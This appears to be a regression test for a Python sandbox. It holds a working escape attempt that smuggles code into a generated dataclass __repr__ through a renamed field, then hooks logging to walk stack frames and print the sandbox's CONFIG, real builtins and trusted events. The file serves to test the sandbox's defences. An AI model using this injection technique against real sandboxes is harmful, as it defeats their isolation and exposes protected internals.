# held: 1
# validator ON + guards ON. A processed dataclass's Field objects are plain mutable objects;
# renaming one after the fact puts arbitrary text into a *subclass's* generated __repr__
# source. The guard's field-name check only reads the subclass's own __annotations__.
def attack():
    import dataclasses

    @dataclasses.dataclass
    class A:
        q: int = 0

    PAYLOAD = [
        "import logging as L",
        "G = []",
        "L._is_internal_frame = lambda f: G.append(f)",
        "L.getLogger('z').warning('inside generated code')",
        "f = G[0]",
        "while f is not None and 'CONFIG' not in f.f_globals: f = f.f_back",
        "z = f.f_globals",
        "print('zygote CONFIG:', z['CONFIG'])",
        "print('real builtins open:', z['builtins'].open)",
        "print('TRUSTED events:', list(z['TRUSTED']))",
        "raise SystemExit(0)",
    ]
    field = dataclasses.fields(A)[0]
    field.name = 'q)"\n' + "\n".join(" " + line for line in PAYLOAD) + "\n #"

    @dataclasses.dataclass(init=False, eq=False)
    class B(A):
        r: int = 0
try:
    attack()
    print('ESCAPED inherited dataclass field name: the attack ran to its end')
except SystemExit:
    print('ESCAPED inherited dataclass field name: the payload ran')
except BaseException as err:
    print('HELD inherited dataclass field name', type(err).__name__)
